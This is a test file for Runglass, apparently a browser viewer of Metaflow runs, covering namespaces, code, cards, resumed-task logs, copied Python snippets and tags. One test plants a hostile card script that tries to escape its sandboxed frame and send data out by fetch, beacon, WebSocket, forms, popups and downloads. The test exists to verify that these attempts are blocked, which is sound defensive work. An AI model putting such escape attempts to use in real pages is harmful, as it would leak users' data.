import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { A_RUN } from "../page.mjs";
import { unpack } from "../zip.mjs";

export const name = "What the Client API answers: namespaces, code, cards, logs of copies, tags";

const SOURCE = "src=runs/client-api.zip";
// An order with a configuration, parameters, tags and a code package.
const ORDER = "OrderFlow/1795247993169861";
// A resumed run: its first task is a copy.
const RESUMED = "NightFlow/1795248006016112";
const COPY = `${RESUMED}/open_up/1`;
// A step that spin ran by itself.
const SPUN = "NightFlow/1795248008282589/bake/0";
// Tasks that ran together, and a step that led to itself.
const TOGETHER = "GuildFlow/1795248014259935/knead";
const RECURSIVE = "DawnFlow/1795248009115330";
const ORIGINAL = "NightFlow/1795248003952141/open_up/1";
// Before what a hostile card has to tell.
const TRIED = "tried: ";

export async function run(t) {
  const archive = join(t.fixtures, "metaflow/client-api.zip");
  const oracle = JSON.parse(readFileSync(join(t.fixtures, "metaflow/client-api.expected.json"), "utf8"));
  const inNamespace = (tag) => Object.values(oracle.runs).filter((run) => run.tags.includes(tag)).length;

  await t.check("the namespace says whose runs are listed, in the address, and stays", async () => {
    const page = await t.visit();
    await page.drop(archive);
    await page.seesRuns(Object.keys(oracle.runs).length);
    const choice = page.raw.getByRole("combobox", { name: "Namespace" });
    await choice.selectOption("user:ana");
    await page.seesRuns(inNamespace("user:ana"));
    assert.match(page.hash(), /[?&]ns=user(:|%3A)ana(&|$)/);
    assert.equal(await choice.inputValue(), "user:ana");
    // It goes along, and back.
    await page.openRun(ORDER.split("/")[1]);
    assert.match(page.hash(), /[?&]ns=user(:|%3A)ana(&|$)/);
    await page.back();
    await page.back();
    await page.seesRuns(Object.keys(oracle.runs).length);
    assert.equal(await choice.inputValue(), "");
  });

  await t.check("the namespace that was chosen last is chosen again where the source is opened again", async () => {
    const page = await t.visit();
    await page.openUrl("runs/client-api.zip");
    await page.seesRuns(Object.keys(oracle.runs).length);
    await page.raw.getByRole("combobox", { name: "Namespace" }).selectOption("user:ana");
    await page.seesRuns(inNamespace("user:ana"));
    await page.home();
    await page.openUrl("runs/client-api.zip");
    await page.seesRuns(inNamespace("user:ana"));
    // Of what is given by hand it is not known whether it is the same.
    await page.drop(archive);
    await page.raw.getByRole("button", { name: "Open only client-api.zip" }).click();
    await page.seesRuns(Object.keys(oracle.runs).length);
  });

  await t.check("a namespace without a run says so, and leads out of it", async () => {
    const page = await t.visit(`#/?${SOURCE}&ns=user:nobody`);
    await page.sees("No run is in the namespace user:nobody");
    await page.raw.getByRole("button", { name: "Show all namespaces" }).click();
    await page.seesRuns(Object.keys(oracle.runs).length);
  });

  await t.check("the code of a run: the flow's file first, others by the tree, lines in the address", async () => {
    const page = await t.visit(`#/${ORDER}?${SOURCE}&tab=code`);
    const source = page.raw.getByRole("region", { name: "Source" });
    await source.getByText("class").first().waitFor();
    await page.sees("order.py");
    const files = page.raw.getByRole("tree", { name: "Files" });
    await files.getByRole("treeitem", { name: /^dough\.py/ }).click();
    await source.getByText("Dough").first().waitFor();
    assert.match(page.hash(), /[?&]select=pantry(\/|%2F)dough\.py(&|$)/);
    await source.locator(".no", { hasText: /^3$/ }).click();
    await page.raw.waitForURL((url) => url.hash.includes("lines=code:3"));
    await page.raw.getByRole("searchbox", { name: "Filter files" }).fill("recipe");
    await files.getByRole("treeitem").filter({ hasText: "pantry/recipe.yaml" }).click();
    await page.raw.waitForURL((url) => /select=pantry(\/|%2F)recipe\.yaml/.test(url.hash) && !url.hash.includes("lines="));
  });

  await t.check("a file and the whole package are saved byte for byte", async () => {
    const page = await t.visit(`#/${ORDER}?${SOURCE}&tab=code&select=order.py`);
    const save = async (label) => {
      const [download] = await Promise.all([
        page.raw.waitForEvent("download"),
        page.raw.getByRole("button", { name: label }).click(),
      ]);
      return readFileSync(await download.path());
    };
    const flow = (await save("Save file")).toString();
    assert.match(flow, /class OrderFlow\(FlowSpec\)/);
    await page.raw.getByRole("link", { name: "About this package" }).click();
    await page.sees("INFO");
    const blob = await save("Save package");
    assert.deepEqual([...blob.subarray(0, 2)], [0x1f, 0x8b], "a package is packed by gzip");
  });

  await t.check("a line of a traceback leads to it in the code", async () => {
    const page = await t.visit("#/TrainFlow/1795218658028712/features/10?src=examples/trainflow.zip&attempt=0&tab=exception");
    await page.raw.getByRole("link", { name: "Open this line in the code of the run" }).last().click();
    await page.raw.waitForURL((url) => /tab=code/.test(url.hash) && /lines=code:\d+/.test(url.hash));
    await page.raw.locator('.line[data-selected]').waitFor();
  });

  await t.check("what a worker of @parallel printed is said to be with the task that leads", async () => {
    const page = await t.visit(`#/${TOGETHER}/2_node_1?${SOURCE}`);
    await page.raw.getByRole("link", { name: "Show the logs of knead/2" }).first().click();
    await page.raw.waitForURL((url) => url.hash.startsWith(`#/${TOGETHER}/2?`));
    await page.raw.getByRole("region", { name: "stdout" }).locator(".line").first().waitFor();
  });

  await t.check("the tasks of a step that leads to itself are told apart by their iteration", async () => {
    const page = await t.visit(`#/${RECURSIVE}/prove/12?${SOURCE}&tab=about`);
    const rail = page.raw.getByRole("tree", { name: "Steps and tasks" });
    await rail.getByRole("treeitem", { name: /iteration=1/ }).waitFor();
    await panel(page).getByText("Iteration", { exact: true }).waitFor();
  });

  await t.check("a long value of the metadata is read whole", async () => {
    const page = await t.visit(`#/${RECURSIVE}/prove/12?${SOURCE}&tab=metadata`);
    await page.raw.getByRole("button", { name: "git-info" }).first().click();
    const event = page.raw.getByRole("region", { name: "git-info" });
    assert.ok(JSON.parse(await event.locator("pre").innerText()).repo_url, "the whole of it");
    await event.getByRole("button", { name: "Close" }).click();
    await event.waitFor({ state: "detached" });
  });

  await t.check("the values that runs share are named", async () => {
    const page = await t.visit(`#/NightFlow?${SOURCE}&tab=storage`);
    await panel(page).getByRole("heading", { name: "Shared by runs" }).waitFor();
  });

  await t.check("where the client names other newest runs, it is said", async () => {
    const page = await t.visit(`#/${RESUMED}?${SOURCE}&tab=about`);
    await page.sees("latest_successful_run None");
  });

  await t.check("a key opens the first run that failed", async () => {
    const page = await t.visit(`#/?${SOURCE}`);
    await page.seesRuns(Object.keys(oracle.runs).length);
    await page.raw.keyboard.press(".");
    await page.raw.waitForURL((url) => url.hash.startsWith("#/WindowFlow/"));
  });

  await t.check("the card of a task is shown in its frame", async () => {
    const page = await t.visit(`#/${RESUMED}?${SOURCE}&tab=cards`);
    const card = page.raw.frameLocator("iframe[title=Card]").frameLocator("iframe[title=Card]");
    await card.getByText(ORIGINAL).waitFor();
    await page.sees("its card was drawn by");
  });

  await t.check("a card alone, in a tab of its own", async () => {
    const page = await t.visit(`#/${RESUMED}?${SOURCE}&tab=cards`);
    await page.raw.frameLocator("iframe[title=Card]").frameLocator("iframe[title=Card]").getByText(ORIGINAL).waitFor();
    const [alone] = await Promise.all([
      page.raw.context().waitForEvent("page"),
      page.raw.getByRole("button", { name: "Open alone" }).click(),
    ]);
    await alone.frameLocator("iframe[title=Card]").getByText(ORIGINAL).waitFor();
  });

  await t.check("a hostile card gets nothing of the page, the network, other tabs or the disk", async () => {
    const lair = join(t.scratch, "lair");
    unpack(archive, lair);
    const elsewhere = await t.serve();
    const cards = join(lair, ".metaflow/mf.cards/NightFlow");
    const pages = readdirSync(cards, { recursive: true }).filter((path) => path.includes("1795248003952141") && path.endsWith(".html"));
    assert.ok(pages.length > 0, "the run has a card");
    for (const path of pages) writeFileSync(join(cards, path), hostile(elsewhere.url("/basics.zip")));
    // What the card tries is refused aloud.
    t.expect(/Content Security Policy/, /sandbox/i, /Unsafe attempt/, /Blocked/, /ERR_BLOCKED_BY_CSP/, /Failed to load resource/, / csp$/);
    const page = await t.newPage();
    const tabs = [];
    page.raw.context().on("page", (tab) => tabs.push(tab));
    let downloads = 0;
    page.raw.on("download", () => (downloads += 1));
    await page.visit(t.address());
    await page.drop(join(lair, ".metaflow"));
    await page.raw.locator(A_RUN).first().waitFor();
    await page.goTo("NightFlow/1795248003952141");
    // The console outlives the frames, which come and go while the card tries to leave them.
    const done = page.raw.waitForEvent("console", (message) => message.text().startsWith(TRIED));
    await page.openTab("Cards");
    const tried = JSON.parse((await done).text().slice(TRIED.length));
    for (const [what, got] of Object.entries(tried)) assert.match(got, /^refused/, what);
    assert.ok(Object.keys(tried).length >= 10, "the card has tried all that it wanted");
    assert.deepEqual(tabs, [], "no other tab");
    assert.equal(downloads, 0, "nothing was saved");
    assert.deepEqual(elsewhere.requests, [], "no server was asked");
    assert.match(page.hash(), /tab=cards/, "the page is where it was");
    assert.equal(await page.raw.title(), "NightFlow/1795248003952141 - Runglass");

    // A card that goes elsewhere itself gets no further than its frame.
    for (const path of pages) writeFileSync(join(cards, path), `<script>location.href = ${JSON.stringify(elsewhere.url("/basics.zip?leak"))}</script>`);
    await page.openTab("Overview");
    const refused = page.raw.waitForEvent("console", (message) => message.text().includes("frame-src"));
    await page.openTab("Cards");
    await refused;
    await page.openTab("About");
    assert.deepEqual(elsewhere.requests, [], "no server was asked");
  });

  await t.check("the log of a task that resume copied is that of its origin, and says so", async () => {
    const page = await t.visit(`#/${COPY}?${SOURCE}&tab=logs`);
    const line = oracle.tasks[ORIGINAL].stdout.split("\n")[0];
    assert.ok(line, "the origin has said something");
    await page.seesInLog("stdout", line);
    await page.sees("This task was copied by resume. Its log is that of");
    await page.raw.getByRole("link", { name: ORIGINAL }).first().click();
    await page.isAt(ORIGINAL);
  });

  await t.check("a place is copied as lines of Python that lead the real client there", async () => {
    const lab = join(t.scratch, "reached");
    unpack(archive, lab);
    // The client looks for values in the folder where the run has put them.
    for (const file of readdirSync(lab, { recursive: true }).filter((file) => /_meta\/.*\.json$/.test(file))) {
      const record = readFileSync(join(lab, file), "utf8");
      writeFileSync(join(lab, file), record.replaceAll("/home/ana/bakery", lab));
    }
    const reached = (lines) =>
      execFileSync(peer(), [join(t.root, "tests/peers/metaflow_reach.py")], {
        cwd: lab,
        env: { ...process.env, USER: "reader" },
        input: lines,
        encoding: "utf8",
      }).trim();
    const page = await t.visit();
    await page.raw.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const copied = async (address, button) => {
      await page.visit(t.address(`#/${address}`));
      await page.raw.getByRole("button", { name: button, exact: true }).click();
      await page.sees("Python for this place copied");
      const lines = await page.raw.evaluate(() => navigator.clipboard.readText());
      await page.raw.reload();
      return lines;
    };
    const check = async (address, button, expected) => {
      assert.equal(reached(await copied(address, button)), expected, address);
    };
    await check(`NightFlow?${SOURCE}`, "Python", "Flow('NightFlow')");
    await check(`${ORDER}?${SOURCE}&ns=user:ana`, "Python", `Run('${ORDER}')`);
    await check(`${COPY}?${SOURCE}&attempt=0`, "Python", `Task('${COPY}', attempt=0)`);
    const end = oracle.runs[ORDER].end_task;
    await check(`${end}/größe?${SOURCE}`, "Copy Python", oracle.tasks[end].artifacts.größe.repr);
    await check(`${SPUN}?${SOURCE}`, "Python", `Task('${SPUN}')`);
    assert.match(await copied(`${SPUN}?${SOURCE}`, "Python"), /^inspect_spin\('\.'\)$/m);
  });

  await t.check("what a dropped folder takes is told in bytes", async () => {
    const yard = join(t.scratch, "yard");
    unpack(archive, yard);
    const page = await t.visit();
    await page.drop(join(yard, ".metaflow"));
    await page.sees("OrderFlow");
    await page.raw.evaluate(() => (location.hash = location.hash.replace("#/", "#/OrderFlow") + "&tab=storage"));
    // As in the archive of the same files, where a listing says all sizes.
    await panel(page).getByText("Included files").waitFor();
    await panel(page).getByText("316 B, 3 files").waitFor();
  });

  await t.check("where nothing can be written, the tags say why", async () => {
    const page = await t.visit(`#/${ORDER}?${SOURCE}&tab=about`);
    await page.sees("Only in a folder can tags be changed: drop the .metaflow folder on this page.");
    assert.equal(await page.raw.getByRole("textbox", { name: "New tag" }).count(), 0);
  });

  await t.check("a tag added, replaced and removed in a dropped folder is read by the real client", async () => {
    const lab = join(t.scratch, "lab");
    unpack(archive, lab);
    const tags = () =>
      execFileSync(peer(), [join(t.root, "tests/peers/metaflow_tags.py"), ORDER], {
        env: { ...process.env, METAFLOW_DATASTORE_SYSROOT_LOCAL: lab, USER: "reader" },
        encoding: "utf8",
      })
        .trim()
        .split("\n");
    const before = tags();
    const page = await t.newWritingPage();
    await page.visit(t.address());
    await page.drop(join(lab, ".metaflow"));
    await page.raw.locator(A_RUN).first().waitFor();
    await page.goTo(ORDER);
    await page.openTab("About");
    const field = page.raw.getByRole("textbox", { name: "New tag" });
    await field.fill("seen in Runglass");
    await field.press("Enter");
    await page.raw.getByRole("link", { name: "seen in Runglass", exact: true }).waitFor();
    assert.deepEqual(tags(), [...before, "seen in Runglass"].sort());

    await page.raw.getByRole("button", { name: "Change the tag seen in Runglass" }).click();
    await page.raw.getByRole("textbox", { name: "Instead of seen in Runglass" }).fill("seen by Zoë");
    await page.raw.keyboard.press("Enter");
    await page.raw.getByRole("link", { name: "seen by Zoë", exact: true }).waitFor();
    assert.deepEqual(tags(), [...before, "seen by Zoë"].sort());

    await page.raw.getByRole("button", { name: `Remove the tag ${before[0]}` }).click();
    await page.raw.getByRole("link", { name: before[0], exact: true }).waitFor({ state: "detached" });
    assert.deepEqual(tags(), [...before.slice(1), "seen by Zoë"].sort());

    // What Metaflow set is none of the user's.
    await field.fill("project:bakery");
    await field.press("Enter");
    await page.sees("The run has these tags already");
  });
}

const panel = (page) => page.raw.locator("#panel");

/** The Python that has Metaflow's own client. */
function peer() {
  assert.ok(process.env.RUNGLASS_PEER, "Metaflow's own client is there (./dev test installs it)");
  return process.env.RUNGLASS_PEER;
}

/** A card that tries to get out; it says on the console what came of each attempt. */
function hostile(url) {
  const trial = async (url, tried) => {
    const told = {};
    const attempt = async (what, act) => {
      try {
        const got = await act();
        told[what] = got ? `got ${got}` : "refused: nothing came of it";
      } catch (error) {
        told[what] = `refused: ${error.name}`;
      }
    };
    await attempt("the page around it", () => parent.document.title);
    await attempt("the page around that", () => top.document.title);
    await attempt("storage", () => String(localStorage.length));
    await attempt("cookies", () => (document.cookie = "a=b"));
    await attempt("fetch", () => fetch(url).then(() => "an answer"));
    await attempt("XMLHttpRequest", () => new Promise((come, fail) => {
      const request = new XMLHttpRequest();
      request.onload = () => come("an answer");
      request.onerror = () => fail(new Error("no answer"));
      request.open("GET", url);
      request.send();
    }));
    await attempt("an image", () => new Promise((come, fail) => {
      const image = new Image();
      image.onload = () => come("a picture");
      image.onerror = () => fail(new Error("no picture"));
      image.src = `${url}?image`;
    }));
    await attempt("a script", () => new Promise((come, fail) => {
      const script = document.createElement("script");
      script.onload = () => come("a script");
      script.onerror = () => fail(new Error("no script"));
      script.src = `${url}?script`;
      document.head.append(script);
    }));
    await attempt("a beacon", () => (navigator.sendBeacon(`${url}?beacon`, "secret") ? "" : ""));
    await attempt("a socket", () => new Promise((come, fail) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = () => come("a socket");
      socket.onerror = () => fail(new Error("no socket"));
    }));
    await attempt("a popup", () => (open(url) ? "a window" : ""));
    await attempt("the top", () => {
      top.location = `${url}?top`;
    });
    await attempt("itself elsewhere", () => {
      const frame = document.createElement("iframe");
      frame.src = `${url}?frame`;
      document.body.append(frame);
    });
    await attempt("a download", () => {
      const link = document.createElement("a");
      link.href = "data:application/octet-stream,secret";
      link.download = "secret.bin";
      link.click();
    });
    await attempt("a form", () => {
      const form = document.createElement("form");
      form.action = `${url}?form`;
      document.body.append(form);
      form.submit();
    });
    await attempt("a peer", () => (typeof RTCPeerConnection === "undefined" ? "" : "a connection"));
    console.info(tried + JSON.stringify(told));
  };
  return `<!doctype html><body><script>(${trial})(${JSON.stringify(url)}, ${JSON.stringify(TRIED)})</script>`;
}
